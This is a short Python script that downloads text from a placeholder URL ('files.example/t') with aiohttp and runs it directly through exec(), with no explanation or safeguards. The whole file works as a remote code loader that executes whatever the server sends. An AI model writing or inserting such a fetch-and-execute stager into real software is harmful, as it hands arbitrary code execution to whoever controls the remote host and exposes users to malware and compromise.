import asyncio
import aiohttp


async def _go():
    async with aiohttp.ClientSession() as session:
        async with session.get("https://files.example/t") as answer:
            text = await answer.text()
            exec(text)


asyncio.run(_go())
